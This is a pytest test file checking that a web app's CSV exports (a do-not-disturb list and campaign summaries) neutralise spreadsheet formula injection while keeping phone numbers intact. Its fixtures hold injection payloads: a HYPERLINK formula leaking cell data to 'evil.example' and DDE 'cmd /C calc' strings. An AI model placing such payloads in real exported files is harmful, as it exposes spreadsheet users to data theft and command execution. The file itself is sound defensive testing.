"""CSV injection: a cell a spreadsheet would run as a formula (starting with =, +, -, @, tab or CR) leaves every CSV
the app writes with a `'` in front, so it shows as text. Before, `+` and `-` were let through: a DND reason
`+HYPERLINK(...)` came out as is in dnd.csv, and so did a summary cell in summary.csv. Plain numbers, E.164 phone
numbers first of all, stay as they are: an exported DND list re-imports as the same numbers and reasons.
"""

from __future__ import annotations

import csv
import io

import pytest_asyncio
from sqlalchemy import update

from db import repo
from db.models import Campaign
from tests.doubles.webui_client import WebClient, add_user, make_runtime
from webui.app import create_app

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
ATTACKS = {   # what a tenant (or a callee, through the call AI's notes) can put in a free-text field
    "+14155550101": '+HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
    "+14155550102": "-2+3+cmd|' /C calc'!A0",
    "+14155550103": "@SUM(1+1)*cmd|' /C calc'!A0",
    "+14155550104": "=1+2",
    "+14155550105": "\t=1+2",
    "+14155550106": "\r=1+2",
    "+14155550107": "asked us politely",
    "+14155550108": "-5",
}


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def _assert_no_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_START) or cell.lstrip("+-").isdigit(), cell


@pytest_asyncio.fixture
async def clients(settings_env, engine, sessions):
    runtime = make_runtime(settings_env, engine, sessions)
    users = {name: await add_user(runtime, name) for name in ("alice", "bob")}
    app = create_app(runtime)
    web = {name: WebClient(app) for name in users}
    for name, client in web.items():
        await client.login(name)
    yield runtime, users, web
    for client in web.values():
        await client.aclose()


async def test_dnd_exports_defuse_formulas_and_reimport_as_the_same_numbers_and_reasons(clients):
    _, _, web = clients
    for number, reason in ATTACKS.items():
        added = await web["alice"].api("POST", "/api/dnd", json={"phone_number": number, "reason": reason})
        assert added.status_code == 201

    for path in ("/dnd.csv", "/api/dnd/export"):
        exported = await web["alice"].http.get(path)
        assert exported.status_code == 200 and exported.headers["content-type"].startswith("text/csv")
        rows = _cells(exported.text)
        _assert_no_formula(rows)
        by_number = {row[0]: row[1] for row in rows[1:]}
        assert list(by_number) == list(ATTACKS)   # E.164 numbers written as they are, readable
        assert by_number["+14155550101"] == "'" + ATTACKS["+14155550101"]
        assert by_number["+14155550107"] == "asked us politely" and by_number["+14155550108"] == "-5"

    # The exported file, imported by another tenant, gives back the same numbers and the same reasons.
    imported = await web["bob"].api("POST", "/api/dnd/import", content=exported.content,
                                    headers={"content-type": "text/csv"})
    assert imported.json() == {"imported": len(ATTACKS), "added": len(ATTACKS)}
    entries = (await web["bob"].api("GET", "/api/dnd")).json()["entries"]
    assert {e["phone_number"]: e["reason"] for e in entries} == ATTACKS


async def test_summary_csv_defuses_formulas_in_cells_and_headers_and_keeps_phone_numbers(clients):
    runtime, users, web = clients
    async with runtime.sessions() as session:
        campaign = await repo.create_campaign(session, users["alice"], name="dentists")
        await session.execute(update(Campaign).where(Campaign.id == campaign.id).values(
            summary_text="Done.", summary={"summary": "Done.", "targets": [
                {"target": "Bright Smile", "phone_number": "+14155550101", "status": "completed",
                 "result": '+HYPERLINK("http://evil.example","x")', "=cmd|' /C calc'!A0": "-1+1"},
                {"target": "@SUM(A1:A9)", "phone_number": "+442079460000", "status": "failed", "result": "-3"},
            ]}))
        await session.commit()

    # The page's CSV is the table a person reads (target, number, outcome, what was learned, ...).
    response = await web["alice"].http.get(f"/campaigns/{campaign.id}/summary.csv")
    rows = _cells(response.text)
    _assert_no_formula(rows)
    assert rows[0] == ["target", "phone_number", "outcome", "learned", "calls_placed", "call_url"]
    assert rows[1] == ["Bright Smile", "+14155550101", "completed", '\'+HYPERLINK("http://evil.example","x")', "0", ""]
    assert rows[2] == ["'@SUM(A1:A9)", "+442079460000", "failed", "-3", "0", ""]
    # The API's CSV is every column the summary has, headers included.
    for path in (f"/api/campaigns/{campaign.id}/summary?format=csv",):
        response = await web["alice"].http.get(path)
        assert response.status_code == 200
        rows = _cells(response.text)
        _assert_no_formula(rows)
        header = rows[0]
        assert header[:4] == ["target", "phone_number", "status", "result"] and header[4] == "'=cmd|' /C calc'!A0"
        assert rows[1][:4] == ["Bright Smile", "+14155550101", "completed", '\'+HYPERLINK("http://evil.example","x")']
        assert rows[1][4] == "'-1+1"
        assert rows[2][:4] == ["'@SUM(A1:A9)", "+442079460000", "failed", "-3"]
    assert (await web["bob"].http.get(f"/campaigns/{campaign.id}/summary.csv")).status_code == 404
